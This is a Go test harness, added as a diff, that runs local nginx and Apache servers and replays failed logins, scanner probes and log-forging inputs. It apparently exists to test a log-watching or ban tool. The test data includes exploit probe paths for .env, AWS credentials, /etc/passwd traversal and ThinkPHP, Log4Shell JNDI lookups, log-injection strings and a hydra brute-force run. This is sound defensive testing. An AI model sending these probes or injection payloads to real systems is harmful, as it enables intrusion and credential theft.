@@ -1,0 +1,294 @@
+package main
+
+import (
+	"encoding/base64"
+	"fmt"
+	"io"
+	"net"
+	"os"
+	"os/exec"
+	"strings"
+	"time"
+)
+
+const (
+	nginxConf = `daemon off; master_process on; worker_processes 1; pid /kk/nginx.pid; user www-data; %[2]s
+events {}
+http { %[3]s
+  server { listen 127.0.0.1:%[1]d; listen [::1]:%[1]d; root /kk/www; server_name web.example.org;
+    location /private/ { auth_basic "x"; auth_basic_user_file /kk/htpasswd; }
+    location = /wp-login.php { if ($arg_ok) { return 302 /wp-admin/; } return 200 "form"; }
+    location = /blog/wp-login.php { return 200 "form"; }
+    location = /api/login { return 401; }
+    location = /user/login { return 403; } } }
+`
+	nginxFiles = "error_log /kk/nginx-error.log info;"
+	apacheConf = `ServerRoot /etc/apache2
+PidFile /kk/apache.pid
+Listen 127.0.0.1:%[1]d
+Listen [::1]:%[1]d
+User www-data
+Group www-data
+ServerName web.example.org
+%[2]s
+LogLevel info
+LogFormat "%%v:%%p %%h %%l %%u %%t \"%%r\" %%>s %%O \"%%{Referer}i\" \"%%{User-Agent}i\"" vhost_combined
+LogFormat "%%h %%l %%u %%t \"%%r\" %%>s %%O \"%%{Referer}i\" \"%%{User-Agent}i\"" combined
+LogFormat "%%h %%l %%u %%t \"%%r\" %%>s %%O" common
+DocumentRoot /kk/www
+<Directory /kk/www>
+  Require all granted
+</Directory>
+<Location /private/>
+  AuthType Basic
+  AuthName x
+  AuthUserFile /kk/htpasswd
+  Require valid-user
+</Location>
+<Location /onlybob/>
+  AuthType Basic
+  AuthName x
+  AuthUserFile /kk/htpasswd
+  Require user bob
+</Location>
+<Location /denied/>
+  Require all denied
+</Location>
+RewriteEngine On
+RewriteCond %%{QUERY_STRING} ok
+RewriteRule ^/wp-login.php /wp-admin/? [R=302,L]
+RewriteRule ^/api/login - [R=401,L]
+RewriteRule ^/user/login - [R=403,L]
+RewriteRule ^/blog/wp-login.php /wp-login.php [L]
+`
+)
+
+// apacheModules are those that the configuration needs, as far as the version has them.
+const apacheModules = `mpm_event authn_core authn_file authz_core authz_user auth_basic rewrite dir`
+
+func apache(port int, extra string) string {
+	var b strings.Builder
+	for m := range strings.FieldsSeq(apacheModules) {
+		fmt.Fprintf(&b, "LoadModule %s_module /usr/lib/apache2/modules/mod_%s.so\n", m, m)
+	}
+	return fmt.Sprintf(apacheConf, port, b.String()+extra)
+}
+
+func webServers() []server {
+	return []server{
+		{
+			name: "nginx", pkg: "nginx-common", folder: "http", set: "combined, error_log of level info", port: 2480,
+			files: map[string]string{"kk/nginx.conf": fmt.Sprintf(nginxConf, 2480, nginxFiles, "access_log /kk/nginx-access.log combined;")},
+			argv:  []string{"/usr/sbin/nginx", "-c", "/kk/nginx.conf"},
+			logs:  []*logFile{{mark: "access", path: "kk/nginx-access.log"}, {mark: "error", path: "kk/nginx-error.log"}}, scenarios: webScenarios(),
+		},
+		{
+			name: "nginx", pkg: "nginx-common", folder: "http", set: "syslog", port: 2481,
+			files: map[string]string{"kk/nginx2.conf": fmt.Sprintf(nginxConf, 2481, "error_log syslog:server=unix:/dev/log error;", "access_log syslog:server=unix:/dev/log combined;")},
+			argv:  []string{"/usr/sbin/nginx", "-c", "/kk/nginx2.conf"}, scenarios: webScenarios(),
+		},
+		{
+			name: "apache", pkg: "apache2", folder: "http", set: "combined", port: 2482,
+			files: map[string]string{"kk/apache.conf": apache(2482, "ErrorLog /kk/apache-error.log\nCustomLog /kk/apache-access.log combined\n")},
+			argv:  []string{"/usr/sbin/apache2", "-D", "FOREGROUND", "-f", "/kk/apache.conf"},
+			logs:  []*logFile{{mark: "access", path: "kk/apache-access.log"}, {mark: "error", path: "kk/apache-error.log"}}, scenarios: apacheScenarios(),
+		},
+		{
+			name: "apache", pkg: "apache2", folder: "http", set: "vhost_combined, common, host names", port: 2483,
+			files: map[string]string{"kk/apache2.conf": apache(2483, "ErrorLog /dev/null\nHostnameLookups On\nCustomLog /kk/apache-vhost.log vhost_combined\n")},
+			argv:  []string{"/usr/sbin/apache2", "-D", "FOREGROUND", "-f", "/kk/apache2.conf"},
+			logs:  []*logFile{{mark: "access", path: "kk/apache-vhost.log"}}, scenarios: nameScenarios(),
+		},
+		{
+			name: "apache", pkg: "apache2", folder: "http", set: "syslog", port: 2484,
+			files: map[string]string{"kk/apache3.conf": apache(2484, "ErrorLog syslog:local1\nCustomLog \"|/usr/bin/logger -t apache2\" common\n")},
+			argv:  []string{"/usr/sbin/apache2", "-D", "FOREGROUND", "-f", "/kk/apache3.conf"}, scenarios: apacheScenarios(),
+		},
+	}
+}
+
+// request is what a client sends beside the request line.
+type request struct {
+	line      string
+	user      string // with pass as Authorization: Basic
+	pass      string
+	auth      bool
+	headers   []string
+	multiline bool
+}
+
+// send sends requests on a connection each.
+func (s *session) send(reqs ...request) {
+	for _, r := range reqs {
+		conn, err := s.dial()
+		if err != nil {
+			fmt.Fprintln(os.Stderr, s.source, err)
+			return
+		}
+		_ = conn.SetDeadline(time.Now().Add(5 * time.Second))
+		text := r.line + "\r\n"
+		if strings.Contains(r.line, " HTTP/") {
+			text += "Host: web.example.org\r\nConnection: close\r\nContent-Length: 0\r\n"
+			if r.auth {
+				text += "Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte(r.user+":"+r.pass)) + "\r\n"
+			}
+			for _, h := range r.headers {
+				text += h + "\r\n"
+			}
+			text += "\r\n"
+		}
+		_, _ = conn.Write([]byte(text))
+		_, _ = io.Copy(io.Discard, conn)
+		_ = conn.Close()
+	}
+}
+
+func get(path string) request { return request{line: "GET " + path + " HTTP/1.1"} }
+
+func basic(user, pass string) request {
+	r := get("/private/")
+	r.user, r.pass, r.auth = user, pass, true
+	return r
+}
+
+// forgedWeb are texts that look like the rest of a line.
+func forgedWeb() []string {
+	return []string{
+		`root`, `x y`, `x [22/Nov/2026:18:00:00 +0000] "GET / HTTP/1.1" 401 1 "-" "-"`, `198.51.100.9 - root`,
+		`x - root [22/Nov/2026:18:00:00 +0000] `, "x\n198.51.100.9 - root [22/Nov/2026:18:00:00 +0000] \"GET / HTTP/1.1\" 401 1 \"-\" \"-\"",
+		`x", client: 198.51.100.9, server: _, request: "GET / HTTP/1.1", host: "h"`,
+		`x": password mismatch, client: 198.51.100.9, server: _, request: "GET / HTTP/1.1", host: "h"`,
+		"x\": password mismatch, client: 198.51.100.9, server: _, request: \"GET / HTTP/1.1\", host: \"h\"\n2026/11/22 18:00:00 [error] 12#12: *1 user \"y",
+		"x\r\n[Sun Nov 22 18:00:00.000000 2026] [auth_basic:error] [pid 1:tid 1] [client 198.51.100.9:1] AH01618: user root not found: /",
+		`root: authentication failure for "/": Password Mismatch`, `x not found: /`, `[client 198.51.100.9:1] AH01618: user root not found: /`,
+		"\x1b[31mred\x1b[0m", "\xff\xfe\x80", `it's "quoted" \ and more`, strings.Repeat("long ", 60), `ünïcode`, `""`, `message repeated 9 times: [ x]`,
+		`Nov 22 18:00:00 web sshd[1]: Failed password for root from 198.51.100.9 port 1 ssh2`,
+	}
+}
+
+func webScenarios() []scenario {
+	list := []scenario{
+		{name: "first request without credentials", do: func(s *session) { s.send(get("/private/")) }},
+		{name: "ordinary requests", do: func(s *session) {
+			s.send(get("/"), get("/index.html"), get("/missing.png"), get("/favicon.ico"), get("/.well-known/acme-challenge/x"), get("/robots.txt"))
+		}},
+		{name: "wrong password", do: func(s *session) {
+			for i := range 3 {
+				s.guesses++
+				s.send(basic("alice", fmt.Sprint("wrong ", i)))
+			}
+		}},
+		{name: "wrong password over IPv6", source: "::1", do: func(s *session) { s.guesses++; s.send(basic("alice", "wrong")) }},
+		{name: "unknown user", do: func(s *session) { s.guesses += 2; s.send(basic("admin", "1"), basic("admin", "2")) }},
+		{name: "empty user", do: func(s *session) { s.send(basic("", "x")) }},
+		{name: "right password after a wrong one", do: func(s *session) {
+			s.guesses++
+			s.logins++
+			s.send(get("/private/"), basic("alice", "x"), basic("alice", password))
+		}},
+		{name: "wordpress", do: func(s *session) {
+			s.guesses += 3
+			s.logins++
+			s.send(request{line: "GET /wp-login.php HTTP/1.1"}, request{line: "POST /wp-login.php HTTP/1.1"}, request{line: "POST //wp-login.php HTTP/1.1"},
+				request{line: "POST /%77p-login.php?x=1 HTTP/1.1"}, request{line: "POST /wp-login.php?ok=1 HTTP/1.1"})
+		}},
+		{name: "wordpress in a folder", do: func(s *session) { s.guesses++; s.send(request{line: "POST /blog/wp-login.php HTTP/1.1"}) }},
+		{name: "logins that answer 401 and 403", do: func(s *session) {
+			s.guesses += 2
+			s.send(request{line: "POST /api/login HTTP/1.1"}, request{line: "GET /api/login HTTP/1.1"}, request{line: "POST /user/login HTTP/1.1"})
+		}},
+		{name: "curl", do: func(s *session) {
+			s.guesses += 2
+			url := fmt.Sprintf("http://127.0.0.1:%d", s.c.port)
+			for _, args := range [][]string{
+				{"-u", "alice:wrong", url + "/private/"}, {"-d", "log=admin&pwd=x", url + "/wp-login.php"}, {url + "/"},
+			} {
+				_ = exec.Command("curl", append([]string{"-s", "-o", "/dev/null", "--interface", s.source}, args...)...).Run() //nolint:gosec // our own arguments
+			}
+		}},
+		{name: "hydra", do: func(s *session) {
+			file, err := os.CreateTemp("", "words")
+			if err != nil {
+				return
+			}
+			defer os.Remove(file.Name())
+			_, _ = file.WriteString("a1\nb2\nc3\nd4\n")
+			_ = file.Close()
+			s.source = "127.0.0.1" // hydra can't be told another
+			s.guesses += 4
+			_ = exec.Command("hydra", "-t", "1", "-I", "-l", "alice", "-P", file.Name(), "-s", fmt.Sprint(s.c.port), "127.0.0.1", "http-get", "/private/").Run()
+		}},
+		{name: "a header of another", do: func(s *session) {
+			s.guesses++
+			r := basic("alice", "wrong")
+			r.headers = []string{"X-Forwarded-For: 198.51.100.9", "X-Real-IP: 198.51.100.9", "Forwarded: for=198.51.100.9", "Client-IP: 198.51.100.9"}
+			s.send(r)
+		}},
+	}
+	for _, path := range []string{
+		"/.env", "/.git/config", "/%2e%65nv", "/%252egit/HEAD", "/wp-config.php.bak", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+		"/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "/boaform/admin/formLogin", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array",
+		"/x/../../../etc/passwd", "/?x=${jndi:ldap://198.51.100.9/a}", "/cgi-bin/luci", "/.aws/credentials", "/actuator/env",
+	} {
+		list = append(list, scenario{name: "exploit " + path, do: func(s *session) { s.probes++; s.send(get(path)) }})
+	}
+	list = append(list,
+		scenario{name: "exploit in a header", do: func(s *session) {
+			s.probes++
+			r := get("/")
+			r.headers = []string{"User-Agent: ${jndi:ldap://198.51.100.9/a}"}
+			s.send(r)
+		}},
+		scenario{name: "another protocol", do: func(s *session) {
+			s.probes += 2
+			s.send(request{line: "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"}, request{line: "SSH-2.0-x"})
+		}},
+		scenario{name: "closed without a request", do: func(s *session) {
+			if conn, err := net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", s.c.port)); err == nil {
+				_ = conn.Close()
+			}
+		}},
+	)
+	list = append(list, scenario{name: "a path that is a whole line of an error log", do: func(s *session) {
+		s.send(get("/x%22%20is%20not%20found,%20client:%20198.51.100.9,%20server:%20_,%20request:%20%22GET%20/%20HTTP/1.1%22,%20host:%20%22h%22%0a" +
+			"2026/11/22%2018:00:00%20[error]%201%231:%20*1%20user%20%22root%22:%20password%20mismatch,%20client:%20198.51.100.9,%20server:%20_,%20request:%20%22GET%20/%20HTTP/1.1%22,%20host:%20%22h%22%0a" +
+			"[Sun%20Nov%2022%2018:00:00.000000%202026]%20[auth_basic:error]%20[pid%201:tid%201]%20[client%20198.51.100.9:1]%20AH01618:%20user%20root%20not%20found:%20/%0a" +
+			"2026/11/22%2018:00:00%20[error]%201%231:%20*1%20x"))
+	}})
+	for _, text := range forgedWeb() {
+		list = append(list, scenario{name: fmt.Sprintf("hostile user %.60q", text), do: func(s *session) {
+			s.guesses++
+			s.send(basic(text, "x"))
+		}})
+		oneLine := strings.NewReplacer("\n", "", "\r", "").Replace(text)
+		list = append(list, scenario{name: fmt.Sprintf("hostile URL and headers %.60q", text), do: func(s *session) {
+			r := get("/" + oneLine)
+			r.headers = []string{"Referer: " + oneLine, "User-Agent: " + oneLine}
+			s.send(r)
+			r = get("/" + strings.ReplaceAll(oneLine, " ", "%20"))
+			r.headers = []string{"Referer: " + oneLine, "User-Agent: " + oneLine}
+			s.send(r)
+		}})
+	}
+	return list
+}
+
+func apacheScenarios() []scenario {
+	return append(webScenarios(),
+		scenario{name: "right password, wrong group", do: func(s *session) {
+			r := get("/onlybob/")
+			r.user, r.pass, r.auth = "alice", password, true
+			s.send(r)
+		}},
+		scenario{name: "denied to all", do: func(s *session) { s.send(get("/denied/")) }},
+	)
+}
+
+// nameScenarios come from addresses whose names are no addresses, or seem to be another's.
+func nameScenarios() []scenario {
+	return []scenario{
+		{name: "no name", do: func(s *session) { s.guesses++; s.send(basic("alice", "x")) }},
+		{name: "a name", source: "127.0.9.8", do: func(s *session) { s.guesses++; s.send(basic("alice", "x")) }},
+		{name: "a name that is an address", source: "127.0.9.9", do: func(s *session) { s.guesses++; s.send(basic("alice", "x")) }},
+	}
+}
